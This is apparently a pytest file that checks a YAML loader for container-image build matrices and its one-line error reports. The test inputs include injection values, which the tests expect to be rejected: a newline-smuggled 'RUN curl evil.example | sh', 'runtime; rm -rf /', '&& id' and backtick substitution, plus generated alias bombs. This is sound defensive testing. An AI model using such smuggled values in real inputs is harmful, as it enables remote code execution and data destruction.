"""matrix.yaml loading: typed values from good files, `file:LINE: field: message` for bad ones.

Each bad matrix in the table below is one mistake of the bad-input corpus (tests/corpus/matrices,
which tests/integration/test_corpus.py runs through the real CLI); the table pins the line and
field the error must name. Mistakes that cannot sit in a small text file (non-UTF-8 bytes, a
huge file, an alias bomb) are generated in tmp_path.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from accel_images.plan import yamlpos
from accel_images.cli import main
from accel_images.errors import InputError
from accel_images.plan.matrix import Matrix, User, load_matrix, parse_matrix
from frozen import MATRIX as FROZEN_MATRIX

REPO = Path(__file__).resolve().parents[2]
MATRICES = Path(__file__).resolve().parents[1] / "matrices"
BAD = Path(__file__).resolve().parents[1] / "corpus" / "matrices"

GOOD_HEAD = 'schema: 1\nimage: accel-images/pytorch\nvendors:\n  cpu:\n'
GOOD_GROUP = '    - torch: ["2.14"]\n      python: ["3.11"]\n      os: [debian12]\n      flavor: [runtime]\n'


def load_error(path: Path) -> InputError:
    with pytest.raises(InputError) as caught:
        load_matrix(path)
    return caught.value


# -- good files ----------------------------------------------------------------------------

def test_published_matrix_loads() -> None:
    matrix = load_matrix(FROZEN_MATRIX)
    assert matrix.image == "accel-images/pytorch"
    assert matrix.user == User("dev", 1000, 1000)
    assert {g.vendor for g in matrix.groups} == {"cpu", "cuda", "rocm", "xpu", "gaudi"}


def test_small_matrix_groups_keep_their_lines_and_order() -> None:
    matrix = load_matrix(MATRICES / "small.yaml")
    assert isinstance(matrix, Matrix)
    assert matrix.image == "example/pytorch"
    assert matrix.user == User("builder", 2000, 2000)
    assert [(g.vendor, g.line) for g in matrix.groups] == [
        ("cpu", 8), ("cpu", 13), ("cuda", 18), ("rocm", 24), ("xpu", 30), ("gaudi", 36)]
    cuda = matrix.groups[2]
    assert cuda.stacks == ("13.2", "12.6")
    assert cuda.flavors == ("runtime", "devel")
    assert not cuda.explicit


def test_cpu_groups_have_no_stack_and_a_single_combination_is_explicit() -> None:
    matrix = load_matrix(MATRICES / "cpu-debian.yaml")
    (group,) = matrix.groups
    assert group.stacks == (None,)
    assert group.explicit


def test_scalar_axis_is_a_one_value_list_and_user_defaults_apply() -> None:
    raw = (b'schema: 1\nimage: a/b\nvendors:\n  cpu:\n'
           b'    - {torch: "2.14", python: "3.11", os: debian12, flavor: runtime}\n')
    matrix = parse_matrix(raw, "inline.yaml")
    assert matrix.groups[0].torch == ("2.14",)
    assert matrix.user == User()


def test_experimental_python_flag_is_read() -> None:
    raw = (GOOD_HEAD + GOOD_GROUP + "      experimental_python: true\n").encode()
    assert parse_matrix(raw).groups[0].experimental_python is True


# -- bad files: exact line, field and message ----------------------------------------------

BAD_CASES = [
    # file, line, field (None: the error is about the file or a whole group), message fragment
    ("broken-yaml.yaml", 6, None, "invalid YAML: mapping values are not allowed"),
    ("tabs.yaml", 5, None, "'\\t'"),
    ("duplicate-key.yaml", 7, "vendors.cpu[0].torch", "duplicate key 'torch' (first at line 5)"),
    ("unknown-top-field.yaml", 3, "registry", "unknown field 'registry'"),
    ("unknown-group-field.yaml", 6, "vendors.cpu[0].pythons", "unknown field 'pythons'"),
    ("wrong-type-axis.yaml", 6, "vendors.cpu[0].python", "quoted string"),
    ("wrong-type-schema.yaml", 2, "schema", "must be an int"),
    ("wrong-type-vendors.yaml", 3, "vendors", "must map at least one vendor"),
    ("float-version.yaml", 5, "vendors.cuda[0].stack", '12.10 is a YAML number, not a string: quote it ("12.10")'),
    ("int-version-second-group.yaml", 10, "vendors.cuda[1].stack[0]", '13 is a YAML number, not a string: quote it ("13")'),
    ("unknown-vendor.yaml", 6, "vendors.tpu", "unknown vendor 'tpu'"),
    ("empty.yaml", 1, None, "the file is empty"),
    ("comments-only.yaml", 1, None, "the file is empty"),
    ("empty-vendors.yaml", 3, "vendors", "must map at least one vendor"),
    ("space-value.yaml", 6, "vendors.cpu[0].python[1]", "'3.12 ' is not a version"),
    ("newline-value.yaml", 7, "vendors.cpu[0].os[0]", "'debian12\\nRUN curl evil.example | sh' is not"),
    ("semicolon-value.yaml", 8, "vendors.cpu[0].flavor[0]", "'runtime; rm -rf /' is not"),
    ("command-substitution-image.yaml", 2, "image", "is not a repository name"),
    ("cpu-with-stack.yaml", 5, "vendors.cpu[0].stack", "cpu images have no stack"),
    ("missing-axis.yaml", 5, "vendors.cuda[0]", "'python' is required"),
    ("root-uid.yaml", 5, "user.uid", "0 would be root"),
]


@pytest.mark.parametrize("name, line, field, fragment", BAD_CASES, ids=[c[0] for c in BAD_CASES])
def test_bad_matrix_names_file_line_and_field(name: str, line: int, field: str | None, fragment: str) -> None:
    error = load_error(BAD / name)
    assert error.file == str(BAD / name)
    assert error.line == line
    assert error.field == field
    assert fragment in error.message
    shown = error.one_line()
    assert shown.startswith(f"{BAD / name}:{line}: " + (f"{field}: " if field else ""))
    assert "\n" not in shown


EXPANSION_CASE = "explicit-impossible-second-group.yaml"  # loads; fails at expansion


def test_every_file_of_the_table_is_in_the_corpus() -> None:
    expected = {c[0] for c in BAD_CASES} | {EXPANSION_CASE}
    assert sorted(expected - {p.name for p in BAD.glob("*.yaml")}) == []
    assert len(expected) == len(BAD_CASES) + 1, "a file named twice in the table"


def test_float_version_message_explains_the_quoting() -> None:
    message = load_error(BAD / "float-version.yaml").message
    assert "12.10" in message and "12.1" in message and "quote" in message


def test_explicit_impossible_group_is_an_error_at_the_group_line() -> None:
    from accel_images.kb.compat import load_kb
    from accel_images.plan.variants import expand
    matrix = load_matrix(BAD / EXPANSION_CASE)
    with pytest.raises(InputError) as caught:
        expand(matrix, load_kb())
    assert caught.value.line == 11
    assert caught.value.field == "vendors.rocm"
    assert "torch 2.13 has no ROCm 7.14 build" in caught.value.message


# -- generated mistakes -----------------------------------------------------------------------

def test_non_utf8_bytes_name_their_line(tmp_path: Path) -> None:
    path = tmp_path / "latin1.yaml"
    path.write_bytes(b"schema: 1\nimage: accel-images/pytorch\n# caf\xe9\n")
    error = load_error(path)
    assert error.line == 3
    assert "not UTF-8" in error.message and "0xe9" in error.message


@pytest.mark.parametrize("head", [
    'schema: 1\nimage: "accel-images/pytorch\\n"\n',
    'schema: 1\nimage: accel-images/pytorch\nuser: {name: "dev\\n"}\n',
])
def test_a_trailing_newline_is_not_part_of_a_valid_name(head: str) -> None:
    raw = head + 'vendors:\n  cpu:\n' + GOOD_GROUP
    with pytest.raises(InputError) as caught:
        parse_matrix(raw.encode(), "m.yaml")
    assert "\\n' is not" in caught.value.message


def test_nul_byte_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "nul.yaml"
    path.write_bytes(b"schema: 1\nimage: a\x00b\n")
    assert load_error(path).line == 2


def test_huge_file_is_refused_before_parsing(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    path.write_bytes(b"schema: 1\n" + b"# padding\n" * (yamlpos.MAX_BYTES // 10 + 1))
    error = load_error(path)
    assert error.file == str(path)
    assert "bytes" in error.message and "refused" in error.message


def test_alias_bomb_is_refused(tmp_path: Path) -> None:
    lines = ["schema: 1", "image: accel-images/pytorch", 'a0: &a0 ["lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, 10):
        refs = ", ".join([f"*a{level - 1}"] * 10)
        lines.append(f"a{level}: &a{level} [{refs}]")
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n")
    error = load_error(path)
    assert "refused" in error.message
    assert error.line is not None and 3 <= error.line <= len(lines)


def test_deep_nesting_is_refused_not_a_recursion_error(tmp_path: Path) -> None:
    path = tmp_path / "deep.yaml"
    path.write_text("schema: 1\nimage: " + "[" * 5000 + "]" * 5000 + "\n")
    error = load_error(path)
    assert error.line == 2
    assert "nested" in error.message


def test_nesting_stacked_through_aliases_is_refused(tmp_path: Path) -> None:
    lines = ["schema: 1"]
    for i in range(40):
        inner = f"*a{i - 1}" if i else "x"
        lines.append(f"k{i}: &a{i} " + "[" * 20 + inner + "]" * 20)
    path = tmp_path / "alias-deep.yaml"
    path.write_text("\n".join(lines) + "\n")
    assert "nested" in load_error(path).message


def test_recursive_alias_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "loop.yaml"
    path.write_text("schema: 1\nimage: a/b\nloop: &l [*l]\n")
    error = load_error(path)
    assert error.line == 3


def test_merge_keys_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "merge.yaml"
    path.write_text(GOOD_HEAD + '    - &g {torch: ["2.14"], python: ["3.11"], os: [debian12], flavor: [runtime]}\n'
                    '    - <<: *g\n      os: [ubuntu24.04]\n')
    error = load_error(path)
    assert error.line == 6
    assert "merges" in error.message


def test_two_documents_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "two.yaml"
    path.write_text("schema: 1\n---\nschema: 1\n")
    assert "invalid YAML" in load_error(path).message


def test_missing_file_is_an_input_error(tmp_path: Path) -> None:
    error = load_error(tmp_path / "absent.yaml")
    assert "not found" in error.message and error.file == str(tmp_path / "absent.yaml")


@pytest.mark.parametrize("value, fragment", [
    ('"3.11\\t"', "is not a version"),
    ('"3.11\\n"', "is not a version"),
    ('"3.11 && id"', "is not a version"),
    ('"`id`"', "is not a version"),
    ('"3.11"', "listed twice"),
    ("[]", "at least one value"),
    ("2026-01-01", "quoted string"),
    ("true", "quoted string"),
    ("null", "quoted string"),
])
def test_python_axis_values_are_strict(value: str, fragment: str) -> None:
    python = value if value in ("[]", "null") else f'["3.11", {value}]'
    raw = GOOD_HEAD + f'    - torch: ["2.14"]\n      python: {python}\n      os: [debian12]\n      flavor: [runtime]\n'
    with pytest.raises(InputError) as caught:
        parse_matrix(raw.encode(), "m.yaml")
    assert fragment in caught.value.message
    assert caught.value.line == 6


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_give_a_matrix_or_an_input_error(raw: bytes) -> None:
    try:
        parse_matrix(raw, "fuzz.yaml")
    except InputError as error:
        assert error.file == "fuzz.yaml"


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("[]{}:,-&*!|>'\"#\n\t ?abc12.")), max_size=200))
def test_arbitrary_yaml_punctuation_gives_a_matrix_or_an_input_error(text: str) -> None:
    try:
        parse_matrix((GOOD_HEAD + text).encode(), "fuzz.yaml")
    except InputError:
        pass


# -- through the CLI: exit 2, one line, no traceback, nothing written ------------------------

BAD_FILES = sorted({c[0] for c in BAD_CASES} | {EXPANSION_CASE})


@pytest.mark.parametrize("name", BAD_FILES)
@pytest.mark.parametrize("command", ["list", "render"])
def test_cli_reports_bad_matrix_in_one_line_and_writes_nothing(name: str, command: str, tmp_path: Path) -> None:
    out = tmp_path / "out"
    args = [command, "--matrix", str(BAD / name)] + (["--out", str(out)] if command == "render" else [])
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1
    assert lines[0].startswith(f"accel-images: error: {BAD / name}:")
    assert "Traceback" not in result.stderr
    assert not out.exists()


def test_cli_reports_generated_mistakes_without_traceback(tmp_path: Path) -> None:
    cases = {
        "latin1.yaml": b"schema: 1\nimage: caf\xe9\n",
        "huge.yaml": b"#" * (yamlpos.MAX_BYTES + 1),
        "deep.yaml": b"schema: " + b"{a: " * 3000 + b"1" + b"}" * 3000 + b"\n",
    }
    for name, raw in cases.items():
        path = tmp_path / name
        path.write_bytes(raw)
        result = CliRunner().invoke(main, ["list", "--matrix", str(path)])
        assert result.exit_code == 2, (name, result.output)
        assert "Traceback" not in result.stderr
        assert result.stderr.startswith(f"accel-images: error: {path}")
